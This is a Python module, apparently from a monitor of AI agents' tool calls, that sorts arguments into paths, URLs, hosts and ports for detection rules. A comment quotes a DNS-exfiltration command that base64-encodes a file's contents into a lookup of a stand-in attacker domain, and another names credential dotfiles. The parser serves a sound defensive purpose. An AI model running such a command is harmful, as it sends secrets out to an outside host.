"""The mutable builder of one event's fields, and the token classifiers it relies on.

Every field is a bounded, de-duplicated list: an adversarial tool call with a million
paths yields MAX_VALUES of them (and the event says it was truncated), never a million.
"""

from __future__ import annotations

import ipaddress
import posixpath
import re
from collections.abc import Iterable
from urllib.parse import urlsplit

from enclave.monitor.interface import EventKind, ToolEvent

MAX_VALUES = 64  # per field
MAX_TEXT = 8_192  # characters of raw / content / code / result that rules see

_URL = re.compile(r"^[a-zA-Z][a-zA-Z0-9+.\-]{1,15}://[^\s\"'<>]+$")
URL_IN_TEXT = re.compile(r"\b(?:https?|ftp|wss?|smtp|ldaps?|s3|gs)://[^\s\"'<>`)\]}]+", re.I)
EMAIL = re.compile(r"^[A-Za-z0-9._%+\-']+@[A-Za-z0-9.\-]+\.[A-Za-z]{2,}$")
EMAIL_IN_TEXT = re.compile(r"[A-Za-z0-9._%+\-]+@[A-Za-z0-9.\-]+\.[A-Za-z]{2,}")
_HOSTNAME = re.compile(r"^(?=.{1,253}$)(?:[a-z0-9_](?:[a-z0-9\-_]{0,61}[a-z0-9])?\.)+[a-z]{2,63}$")
_IP_RANGE = re.compile(r"^(\d{1,3}\.\d{1,3}\.\d{1,3}\.)(\d{1,3})-(\d{1,3})$")
# A "hostname" whose last label is one of these is a file name (nmap -oN scan.txt).
FILE_EXTENSIONS = frozenset(
    """txt xml json log gnmap nmap html htm csv tsv py sh md yml yaml conf cfg ini out lst
    list pem key crt cer der pfx p12 zip gz tgz bz2 xz tar sql db sqlite php js ts go rs c h
    cpp java rb pl jpg jpeg png gif svg pdf doc docx xls xlsx bin exe dll so elf img iso
    bak tmp swp lock toml env pcap cap hash hashes pot rules""".split()
)


def is_url(token: str) -> bool:
    return "://" in token and _URL.match(token) is not None


def normal_host(host: str) -> str:
    host = host.strip().strip("[]").rstrip(".").lower()
    return host


def host_of_url(url: str) -> tuple[str, int | None]:
    try:
        parts = urlsplit(url)
        host = parts.hostname or ""
        port = parts.port
    except ValueError:
        return "", None
    if parts.scheme == "s3" and host:  # s3://bucket/key: the bucket's endpoint
        host = f"{host}.s3.amazonaws.com"
    return normal_host(host), port


_ADDRESS_CHARS = re.compile(r"^\[?[0-9A-Fa-f:.]+\]?(?:/\d{1,3}|-\d{1,3})?$")
_OCTET = r"(?:25[0-5]|2[0-4][0-9]|1[0-9][0-9]|[1-9]?[0-9])"
# A dotted quad without leading zeros is its own canonical text (ipaddress rejects leading
# zeros), optionally with a prefix length of at most two digits.
_IPV4 = re.compile(rf"({_OCTET}(?:\.{_OCTET}){{3}})(?:/([0-9]{{1,2}}))?")
# Without a colon, ipaddress accepts nothing but four dotted decimal groups (IPv6 needs
# at least two colons): other words skip its parser and the exception it raises.
_IPV4_LOOSE = re.compile(r"[0-9]{1,3}(?:\.[0-9]{1,3}){3}(?:/[0-9]{1,3})?")


def ip_or_network(token: str) -> str | None:
    """The canonical text of an IP address, CIDR block or last-octet range, else None."""
    # ipaddress reports a non-address by raising, which costs microseconds per word of
    # every command; most words fail this character check first.
    if ("." not in token and ":" not in token) or _ADDRESS_CHARS.match(token) is None:
        return None
    candidate = token.strip("[]")
    m = _IPV4.fullmatch(candidate)
    if m is not None:  # the common case, without ipaddress's general parser
        if m[2] is None:
            return candidate
        prefix = int(m[2])
        if prefix <= 32:  # what ip_network(strict=False) makes of it: the block's address
            a, b, c, d = (int(octet) for octet in m[1].split("."))
            block = ((a << 24) | (b << 16) | (c << 8) | d) & (0xFFFFFFFF << (32 - prefix))
            return f"{block >> 24}.{block >> 16 & 255}.{block >> 8 & 255}.{block & 255}/{prefix}"
    if ":" in candidate:
        parseable = candidate.count(":") >= 2
    else:
        parseable = _IPV4_LOOSE.fullmatch(candidate) is not None
    if parseable:
        try:
            if "/" in candidate:
                return str(ipaddress.ip_network(candidate, strict=False))
            return str(ipaddress.ip_address(candidate))
        except ValueError:
            pass
    m = _IP_RANGE.match(candidate)
    if m and int(m.group(2)) <= int(m.group(3)) <= 255:  # nmap's 10.0.0.1-50
        try:
            ipaddress.ip_address(m.group(1) + m.group(2))
        except ValueError:
            return None
        return candidate
    return None


def is_hostname(token: str) -> bool:
    token = token.lower().rstrip(".")
    if _HOSTNAME.match(token) is None:
        return False
    return token.rsplit(".", 1)[-1] not in FILE_EXTENSIONS


def looks_like_path(token: str) -> bool:
    if not token or token[0] == "-" or len(token) > 4096 or "://" in token:
        return False
    if token[0] in "/~" or token.startswith(("./", "../", "$HOME", "${HOME}")):
        return True
    if token.startswith(".") and len(token) > 1 and token[1] not in ". ":
        return True  # dotfiles: .env, .netrc, .git-credentials
    return "/" in token and " " not in token and "@" not in token.split("/", 1)[0]


_ACCESS_FIELDS = {"read": "paths_read", "written": "paths_written", "deleted": "paths_deleted"}


def clean_path(token: str) -> str:
    if token.startswith("/") and ("/." in token or "//" in token):
        return posixpath.normpath(token)
    return token


class Facts:
    """Accumulates one event's fields; `event()` freezes them."""

    __slots__ = ("_fields", "truncated")

    def __init__(self) -> None:
        # name -> values in insertion order (a dict is an ordered set with one lookup)
        self._fields: dict[str, dict[str, None]] = {}
        self.truncated = False

    def add(self, name: str, value: str) -> None:
        if not value:
            return
        bucket = self._fields.get(name)
        if bucket is None:
            self._fields[name] = {value: None}
        elif value not in bucket:
            if len(bucket) >= MAX_VALUES:
                self.truncated = True
            else:
                bucket[value] = None

    def extend(self, name: str, values: Iterable[str]) -> None:
        """`add` each value in turn (one call for a command's arguments)."""
        bucket = self._fields.get(name)
        for value in values:
            if not value:
                continue
            if bucket is None:
                bucket = self._fields[name] = {value: None}
            elif value not in bucket:
                if len(bucket) >= MAX_VALUES:
                    self.truncated = True
                else:
                    bucket[value] = None

    def has(self, name: str) -> bool:
        return bool(self._fields.get(name))

    def get(self, name: str) -> list[str]:
        return list(self._fields.get(name, ()))

    def text(self, name: str, value: str) -> None:
        """A free-text field (raw, content, code, result): bounded, appended."""
        if value:
            self.add(name, value[:MAX_TEXT])

    def path(self, token: str, *, access: str | None = None) -> None:
        """`access` is read, written or deleted; None means only mentioned."""
        token = clean_path(token)
        self.add("paths", token)
        if access is not None:
            self.add(_ACCESS_FIELDS.get(access) or "paths_" + access, token)

    def url(self, url: str, *, target: bool = True) -> None:
        self.add("urls", url)
        if target:
            host, port = host_of_url(url)
            if host:
                self.add("hosts", host)
            if port is not None:
                self.add("ports", str(port))

    def host(self, token: str, port: str | None = None) -> bool:
        """Record a network target given as a bare host, address or CIDR; False if it is
        neither."""
        token = token.strip()
        if "$(" in token or "`" in token:
            # `dig $(cat f | base64).x.evil.example`: the name is built at run time, but
            # the domain it ends in is the one contacted.
            token = re.split(r"[)`]", token)[-1].lstrip(".")
        if "@" in token:
            token = token.rsplit("@", 1)[1]
        if token.count(":") == 1 and not token.startswith("["):
            token, _, maybe_port = token.partition(":")
            if maybe_port.isdigit():
                port = maybe_port
        address = ip_or_network(token)
        if address is None:
            address = normal_host(token)
            if address != "localhost" and not is_hostname(token):
                return False
        self.add("hosts", address)
        if port and port.isdigit():
            self.add("ports", port)
        return True

    def event(self, tool_call_id: str, tool: str, kind: EventKind) -> ToolEvent:
        if self.truncated:
            self.add("parse_error", f"more than {MAX_VALUES} values in a field; rest dropped")
        fields: dict[str, str | tuple[str, ...]] = {
            name: tuple(values) for name, values in self._fields.items() if values
        }
        fields["tool"] = tool
        fields["kind"] = kind._value_  # `.value` is a descriptor, three times slower
        fields["tool_call_id"] = tool_call_id
        return ToolEvent(tool_call_id, tool, kind, fields)


__all__ = [
    "EMAIL",
    "EMAIL_IN_TEXT",
    "MAX_TEXT",
    "MAX_VALUES",
    "URL_IN_TEXT",
    "Facts",
    "clean_path",
    "host_of_url",
    "ip_or_network",
    "is_hostname",
    "is_url",
    "looks_like_path",
    "normal_host",
]
